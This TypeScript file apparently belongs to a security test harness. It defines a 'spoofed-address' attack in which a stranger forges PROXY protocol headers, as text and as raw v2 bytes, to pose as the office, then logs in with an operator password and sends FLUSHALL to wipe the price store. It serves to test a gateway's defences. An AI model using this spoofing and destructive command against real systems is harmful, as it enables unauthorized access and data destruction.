import type { Attack, Way } from '../attack.ts';
import type { Grounds } from '../grounds/grounds.ts';
import { places } from '../grounds/policy.ts';
import { stopBy } from './as-user.ts';
import { encode, send } from './raw.ts';

/** The second version of the PROXY protocol: from the office to the gateway, over TCP and IPv4. */
function binaryHeader(): Buffer {
  const signature = Buffer.from('\r\n\r\n\0\r\nQUIT\n', 'latin1');
  const addresses = [places.office, '127.0.0.1'].flatMap((each) => each.split('.').map(Number));
  return Buffer.concat([signature, Buffer.from([0x21, 0x11, 0, 12, ...addresses, 200, 0, 24, 0])]);
}

function claiming(name: string, header: Buffer): Way<Grounds> {
  return {
    name,
    attempt: async (grounds) => {
      const { ports, logins } = grounds;
      const strike = {
        from: places.stranger,
        host: '127.0.0.1',
        port: ports.balanced,
        replies: 2,
      };
      const words = encode('AUTH', 'ops', logins.passwordOf('ops')) + encode('FLUSHALL');
      return stopBy(grounds, await send(strike, Buffer.concat([header, Buffer.from(words)])));
    },
  };
}

export const spoofedAddress: Attack<Grounds> = {
  name: 'spoofed-address',
  title: 'A stranger has the password of an operator, and says that he comes from the office',
  story:
    'A header says for whom a balancer speaks, and who believes it from everybody believes every lie. In 2012 Stack ' +
    'Overflow took a visitor for one of its own, and told him what was not for him: his header named its own machine.',
  door: 'gateway',
  harms: ['availability', 'integrity'],
  goal: 'the prices are gone',
  crosses: ['gateway'],
  ways: [
    claiming(
      'the PROXY protocol, as text',
      Buffer.from(`PROXY TCP4 ${places.office} 127.0.0.1 51200 6144\r\n`),
    ),
    claiming('the PROXY protocol, as bytes', binaryHeader()),
  ],
  reached: async ({ store }) =>
    (await store.text('GET', 'price:1')) === null
      ? { kind: 'reached', seen: 'price:1 is gone' }
      : { kind: 'missed' },
};
